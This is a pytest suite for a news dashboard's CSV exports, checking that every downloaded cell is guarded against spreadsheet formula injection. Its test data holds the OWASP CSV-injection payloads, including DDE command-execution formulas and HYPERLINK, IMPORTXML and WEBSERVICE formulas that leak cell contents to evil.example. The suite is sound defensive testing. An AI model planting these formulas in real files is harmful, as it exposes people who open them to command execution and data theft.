"""CSV formula injection through every export the dashboard offers (issue 5, item 5).

The 13 payloads of OWASP's "CSV Injection" page (https://owasp.org/www-community/attacks/CSV_Injection:
the ``= + - @`` openers, tab and carriage return, DDE, HYPERLINK exfiltration) plus the
Google-Sheets fetchers it warns about (IMPORTXML, WEBSERVICE-style) are written into a real
SQLite store as article titles, summaries, links, languages, outlet titles, feed URLs and feed
errors (through ``ingest.store``). Every export the pages offer is then built by the real query
(``ingest.queries``) and the real writer (``ui.export``), and read back the way a spreadsheet
would: bytes → UTF-8 with BOM → ``csv.reader``. Required: 0 cells a spreadsheet would evaluate,
numeric columns unchanged (negative numbers stay numbers), the BOM present, and every text cell
equal to the stored text (Indonesian, Cyrillic, CJK intact) apart from the guarding apostrophe.
"""

from __future__ import annotations

import csv
import hashlib
import io
import math
from collections.abc import Callable, Iterator
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import pandas as pd
import pytest
import streamlit.testing.v1.app_test as app_test_module
from sqlalchemy import Engine
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage
from streamlit.testing.v1 import AppTest

from ingest import queries, store
from ingest.queries import Filters
from ingest.records import Article, CountryTag, Evidence, Tags, TopicTag, tagging_text
from tests.spreadsheet import would_evaluate
from ui import export

# The 13 OWASP "CSV Injection" payloads: each opens with a character a spreadsheet evaluates.
OWASP_PAYLOADS: tuple[str, ...] = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    '=DDE("cmd";"/C calc";"!A0")A0',
    "\n-1+1",  # the %0A (line feed) form
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://evil.example/?leak="&A1)',
    "+cmd|' /C notepad'!'A1'",
)
# Forms a spreadsheet also evaluates: leading blanks it skips, full-width operators.
VARIANTS: tuple[str, ...] = (
    " =1+1",
    "   @SUM(1+1)",
    "\u00a0-2+3",
    "\u3000=1+1",
    "＝1+1",
    "＋1+1",
    "－2+3",
    "＠SUM(1+1)",
    " \t=1+1",
)
# Leading characters that spreadsheets drop before parsing (BOM, em space, zero-width), which
# ui/export.py does not skip yet.
INVISIBLE_LEADERS: tuple[str, ...] = (
    "\ufeff=1+1",
    "\u2003=1+1",
    '\u200b=HYPERLINK("http://evil.example","x")',
    "\u2060@SUM(1+1)",
)

MULTILINGUAL = (
    "Presiden Indonesia bertemu Putin di Moskow.",
    "Россия и Индонезия подписали соглашение.",
    "印度尼西亚与俄罗斯举行会谈。",
    "インドネシアとロシアが会談。",
)
ROOT = Path(__file__).resolve().parent.parent
DAY0 = date(2024, 5, 1)
DAYS = 60
PERIOD = Filters(DAY0, DAY0 + timedelta(days=DAYS - 1))


def unguard(cell: str) -> str:
    return cell[1:] if cell.startswith("'") else cell


def read_back(data: bytes) -> list[list[str]]:
    """A real CSV round trip: the bytes a user downloads, decoded as a spreadsheet would."""
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM missing"
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


# --------------------------------------------------------------------------------------------
# The store


def _tags(text: str, language: str | None) -> Tags:
    countries = []
    for iso3, surfaces in (
        ("IDN", ("Indonesia", "Индонезия", "印度尼西亚", "インドネシア")),
        ("RUS", ("Rusia", "Putin", "Россия", "俄罗斯", "ロシア")),
    ):
        evidence = [Evidence(s, "name", text.find(s)) for s in surfaces if text.find(s) >= 0]
        countries.append(CountryTag(iso3, evidence))
    return Tags(
        language=language,
        language_source="feed",
        countries=countries,
        topics=[TopicTag("diplomacy", [])],
        tagger_version="csv-injection-test",
    )


def build_store(engine: Engine, payloads: tuple[str, ...]) -> None:
    """Feeds and articles whose every free-text field opens with a payload."""
    homes = ("IDN", "RUS", "JPN", "CHN")
    fetched = datetime(2024, 7, 1, tzinfo=UTC)
    feed_ids = []
    for i, payload in enumerate(payloads):
        # Outlet title is a payload; every third feed has no title, so its URL text (also a
        # payload) is what the exports show as the outlet.
        feed_ids.append(
            store.ensure_feed(
                engine,
                payload + f" feed {i}" if i % 3 == 2 else f"https://outlet{i}.example/rss",
                title=None if i % 3 == 2 else payload,
                language="id",
                country_iso3=homes[i % len(homes)],
                source="user",
            )
        )
    for i, payload in enumerate(payloads):
        items = []
        # More articles late in the window for some feeds, early for others: rising scores and
        # spike scores go negative as well as positive.
        n_items = 3 + (i % 4)
        for j in range(n_items):
            day = DAYS - 1 - (j * (5 if i % 2 else 13)) % DAYS
            moment = datetime.combine(DAY0 + timedelta(days=day), datetime.min.time(), UTC)
            title = payload if j % 2 == 0 else f"{payload} {MULTILINGUAL[j % 4]}"
            summary = f"{payload} {MULTILINGUAL[(i + j) % 4]}"
            language = payload if j == 1 else ("id", "ru", "zh", "ja")[(i + j) % 4]
            key = hashlib.sha1(f"{i}-{j}".encode()).hexdigest()
            article = Article(
                url_key=key,
                url=payload if j % 2 else f"https://outlet{i}.example/{j}",
                guid=None,
                title=title,
                summary=summary,
                published_at=moment + timedelta(hours=i),
                fetched_at=fetched,
            )
            items.append((article, _tags(tagging_text(title, summary), language)))
        store.save_articles(engine, feed_ids[i], items)
        if i % 2:
            store.finish_poll(
                engine,
                feed_ids[i],
                store.PollRecord(
                    started_at=fetched,
                    outcome="error",
                    http_status=500,
                    error=payload,
                    error_category="http",
                ),
            )


Export = tuple[str, pd.DataFrame | None, Callable[[], bytes]]


def exports(engine: Engine, f: Filters) -> Iterator[Export]:
    """Every CSV the pages offer, built the way the pages build them (see dashboard.py and
    app_pages/*.py: the same query, the same columns, the same writer): name, the frame written
    (None for the streamed export) and the writer."""
    q = queries

    def frame(df: pd.DataFrame) -> tuple[pd.DataFrame, Callable[[], bytes]]:
        return df, lambda: export.to_csv_bytes(df)

    # Overview
    top = q.country_counts(engine, f, limit=15)
    yield "top-countries", *frame(top[["iso3", "country", "articles", "share"]])
    pairs = q.pair_counts(engine, f, limit=15)
    yield "top-pairs", *frame(pairs[["iso3_a", "iso3_b", "pair", "articles"]])
    yield "rising-countries", *frame(q.rising(engine, f, kind="country", limit=10))
    yield "rising-pairs", *frame(q.rising(engine, f, kind="pair", limit=10))
    yield "latest-articles", *frame(q.list_articles(engine, f, limit=10).drop(columns=["id"]))
    # Coverage over time
    columns = ["period", "key", "label", "articles", "total", "share", "rolling", "score", "spike"]
    g = f.with_(pair=("IDN", "RUS"), topics=("diplomacy",))
    for by in ("country", "pair", "topic", "total"):
        for freq in ("D", "W"):
            series = q.coverage_series(engine, g, by=by, freq=freq)
            yield f"coverage-{by}-{freq}", *frame(series[columns])
    pf = q.point_filters(g, "country", "IDN", f.date_to, "D")
    yield "point-articles", *frame(q.list_articles(engine, pf, limit=100).drop(columns=["id"]))
    # Map
    yield "map-countries", *frame(q.country_counts(engine, f))
    yield "co-mentions", *frame(q.co_mentions(engine, f, "IDN").head(25))
    who = q.who_covers_whom(engine, f, countries=15)
    yield "who-covers-whom", *frame(who[["home", "home_country", "iso3", "country", "articles"]])
    # Country pair
    p = f.with_(pair=("IDN", "RUS"))
    yield "pair-matrix", *frame(q.pair_matrix(engine, f, size=12))
    timeline = q.pair_timeline(engine, p, freq="D")
    yield "pair-timeline", *frame(timeline[["period", "series", "label", "articles"]])
    yield "pair-topics", *frame(q.topic_counts(engine, p))
    yield "pair-languages", *frame(q.language_counts(engine, p))
    yield "pair-outlets", *frame(q.outlet_counts(engine, p, limit=15))
    yield "pair-articles", *frame(q.list_articles(engine, p, limit=20).drop(columns=["id"]))
    # Articles: one page, and every article streamed in chunks
    page = q.list_articles(engine, f, limit=50).drop(columns=["id"])
    yield "articles-page", *frame(page)
    yield (
        "articles-all",
        None,
        lambda: export.articles_csv_bytes(engine, f, limit=10_000, chunk=7),
    )
    searched = f.with_(search="=1+1")
    yield (
        "articles-search",
        *frame(q.list_articles(engine, searched, limit=50).drop(columns=["id"])),
    )
    # Feeds
    yield "feeds", *frame(q.feed_health(engine))


@pytest.fixture(scope="module")
def payload_store(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Engine]:
    path = tmp_path_factory.mktemp("csv-injection") / "pantau.db"
    engine = store.make_engine(f"sqlite:///{path}")
    build_store(engine, OWASP_PAYLOADS + VARIANTS)
    yield engine
    engine.dispose()


# --------------------------------------------------------------------------------------------
# Checks


def check_round_trip(data: bytes, source: pd.DataFrame | None) -> list[tuple[int, str, str]]:
    """Read ``data`` back; the evaluable cells (row, column, cell). Numeric columns of
    ``source`` must come back as the same numbers, text columns as the same text."""
    rows = read_back(data)
    header, body = rows[0], rows[1:]
    numeric = set()
    if source is not None:
        numeric = {
            str(c)
            for c in source.columns
            if pd.api.types.is_numeric_dtype(source[c])
            and not pd.api.types.is_bool_dtype(source[c])
        }
    # A number (also a negative one) in a numeric column is a value, not a formula.
    bad = [(r, header[c], cell) for r, row in enumerate(body) for c, cell in enumerate(row)
           if header[c] not in numeric and would_evaluate(cell)]  # fmt: skip
    if source is None:
        return bad
    assert header == [str(c) for c in source.columns]
    assert len(body) == len(source)
    for c, column in enumerate(source.columns):
        series = source[column]
        cells = [row[c] for row in body]
        if pd.api.types.is_bool_dtype(series):
            assert cells == [str(bool(v)) for v in series], column
        elif pd.api.types.is_numeric_dtype(series):
            for cell, value in zip(cells, series, strict=True):
                if pd.isna(value):
                    assert cell == ""
                else:
                    assert not cell.startswith("'"), (column, cell)
                    assert math.isclose(float(cell), float(value), rel_tol=1e-12, abs_tol=1e-12)
        elif all(isinstance(v, str) for v in series):
            assert [unguard(x) for x in cells] == list(series), column
    return bad


def test_the_thirteen_owasp_payloads_are_distinct_and_all_evaluable() -> None:
    assert len(OWASP_PAYLOADS) == 13 == len(set(OWASP_PAYLOADS))
    for payload in OWASP_PAYLOADS + VARIANTS + INVISIBLE_LEADERS:
        assert would_evaluate(payload), repr(payload)
    for harmless in ("Indonesia", "'=1+1", "2024-05-01", "1.5", "Россия", "印度尼西亚", ""):
        assert not would_evaluate(harmless)


def test_every_export_has_no_evaluable_cell_and_keeps_numbers_and_text(
    payload_store: Engine,
) -> None:
    seen_payload_cells = 0
    negatives = 0
    names = []
    failures = []
    for name, source, build in exports(payload_store, PERIOD):
        names.append(name)
        data = build()
        failures += [(name, *bad) for bad in check_round_trip(data, source)]
        text = data.decode("utf-8-sig")
        seen_payload_cells += sum(text.count("'" + p.lstrip(" ")) for p in ("=1+1", "-2+3"))
        if source is not None:
            numeric = source.select_dtypes("number")
            negatives += int((numeric < 0).sum().sum())
    assert failures == [], failures[:10]
    assert len(names) == len(set(names)) >= 25
    assert seen_payload_cells > 50, "the payloads did reach the exports"
    assert negatives > 0, "some numeric column holds negative numbers"


def test_each_payload_reaches_each_free_text_column_guarded(payload_store: Engine) -> None:
    """The articles export (every article) holds each payload, guarded, in title, summary, url,
    outlet and language; the feeds export in title, url and last error."""
    data = export.articles_csv_bytes(payload_store, PERIOD)  # the "Download all" button's
    rows = read_back(data)
    header = rows[0]
    for column in ("title", "summary", "url", "outlet", "language"):
        cells = {row[header.index(column)] for row in rows[1:]}
        for payload in OWASP_PAYLOADS + VARIANTS:
            guarded = [c for c in cells if unguard(c).startswith(payload)]
            assert guarded, (column, payload)
            assert all(c.startswith("'") for c in guarded), (column, payload)
    feeds = read_back(export.to_csv_bytes(queries.feed_health(payload_store)))
    header = feeds[0]
    for column in ("title", "url", "last_error"):
        cells = [row[header.index(column)] for row in feeds[1:]]
        hits = [c for c in cells if any(unguard(c).startswith(p) for p in OWASP_PAYLOADS)]
        assert hits and all(c.startswith("'") for c in hits), column
        assert not any(would_evaluate(c) for c in cells)


def test_multilingual_text_survives_the_round_trip(payload_store: Engine) -> None:
    df = queries.list_articles(payload_store, PERIOD, limit=1000).drop(columns=["id"])
    text = export.to_csv_bytes(df).decode("utf-8-sig")
    for sentence in MULTILINGUAL:
        assert sentence in text
    rows = read_back(export.to_csv_bytes(df))
    titles = [unguard(row[rows[0].index("title")]) for row in rows[1:]]
    assert titles == list(df["title"])


def test_the_streamed_export_equals_the_paged_one(payload_store: Engine) -> None:
    """ "Download all" (rows through the csv module, in chunks) writes the very bytes that the
    pandas writer gives for the page's frame of the same articles (issue 11 item 16)."""
    total = queries.count_articles(payload_store, PERIOD)
    paged = queries.list_articles(payload_store, PERIOD, limit=total).drop(columns=["id"])
    streamed = export.articles_csv_bytes(payload_store, PERIOD, chunk=7)
    assert streamed == export.to_csv_bytes(paged)
    assert len(read_back(streamed)) == total + 1
    frames = (fr.drop(columns=["id"]) for fr in queries.iter_articles(payload_store, PERIOD))
    assert export.chunks_to_csv_bytes(frames) == streamed
    limited = export.articles_csv_bytes(payload_store, PERIOD, limit=10, chunk=7)
    assert limited == export.to_csv_bytes(paged.head(10))


@pytest.mark.parametrize("payload", INVISIBLE_LEADERS, ids=ascii)
def test_guard_cell_skips_invisible_leading_characters(payload: str) -> None:
    assert not would_evaluate(unguard_once(export.guard_cell(payload)))
    frame = pd.DataFrame({"title": [payload, "Indonesia"], "n": [-1, 2]})
    assert check_round_trip(export.to_csv_bytes(frame), frame) == []


def test_invisible_leading_characters_in_every_export(tmp_path) -> None:  # noqa: ANN001
    engine = store.make_engine(f"sqlite:///{tmp_path / 'pantau.db'}")
    try:
        build_store(engine, INVISIBLE_LEADERS)
        failures = []
        for name, source, build in exports(engine, PERIOD):
            failures += [(name, *bad) for bad in check_round_trip(build(), source)]
        assert failures == [], failures[:10]
    finally:
        engine.dispose()


def unguard_once(cell: str) -> str:
    """The cell as a spreadsheet reads it: a leading apostrophe makes the rest literal text,
    so only an unguarded cell can be evaluated; return '' for a guarded one."""
    return "" if cell.startswith("'") else cell


# --------------------------------------------------------------------------------------------
# Every download button of every page, as the dashboard serves it (AppTest)


class _KeptMedia(MemoryMediaFileStorage):
    """Streamlit's in-memory media store, kept reachable after a run to read the downloads."""

    instances: list[MemoryMediaFileStorage] = []

    def __init__(self, *args: object, **kwargs: object) -> None:
        super().__init__(*args, **kwargs)  # type: ignore[arg-type]
        _KeptMedia.instances.append(self)


PAGES = [
    ("dashboard.py", {}),
    ("app_pages/1_Coverage.py", {"c": "IDN,RUS"}),
    ("app_pages/2_Map.py", {}),
    ("app_pages/3_Country_pair.py", {"pair": "IDN-RUS"}),
    ("app_pages/4_Articles.py", {}),
    ("app_pages/4_Articles.py", {"q": "=1+1"}),
    ("app_pages/5_Feeds.py", {}),
]


@pytest.mark.parametrize(("page", "params"), PAGES, ids=lambda v: v if isinstance(v, str) else "")
def test_every_download_button_of_every_page(
    payload_store: Engine, monkeypatch: pytest.MonkeyPatch, page: str, params: dict[str, str]
) -> None:
    monkeypatch.setenv("PANTAU_DATABASE_URL", str(payload_store.url))
    monkeypatch.setenv("PANTAU_SEED_DEMO", "0")
    monkeypatch.setattr(app_test_module, "MemoryMediaFileStorage", _KeptMedia)
    app = AppTest.from_file(str(ROOT / page), default_timeout=120)
    for key, value in ({"from": PERIOD.date_from.isoformat(), "to": PERIOD.date_to.isoformat()}
                       | params).items():  # fmt: skip
        app.query_params[key] = value
    app.run()
    assert not app.exception, [e.message for e in app.exception]
    buttons = list(app.get("download_button"))
    assert buttons, "the page offers downloads"
    media = _KeptMedia.instances[-1]
    failures, cells, guarded = [], 0, 0
    for button in buttons:
        file = media.get_file(button.proto.url.rsplit("/", 1)[-1])
        rows = read_back(file.content)
        cells += sum(len(r) for r in rows[1:])
        guarded += sum(cell.startswith("'") for r in rows[1:] for cell in r)
        failures += [(file.filename, *bad) for bad in check_round_trip(file.content, None)
                     if not _numeric_column(rows, bad[1])]  # fmt: skip
    assert cells > 0
    # Pages listing articles or feeds export the payloads (guarded); the map exports countries.
    assert guarded > 0 or page == "app_pages/2_Map.py"
    assert failures == [], failures[:10]


def _numeric_column(rows: list[list[str]], column: str) -> bool:
    """Every cell of ``column`` is a number (a negative count or score is a value)."""
    index = rows[0].index(column)
    try:
        [float(r[index]) for r in rows[1:] if r[index] != ""]
    except ValueError:
        return False
    return True
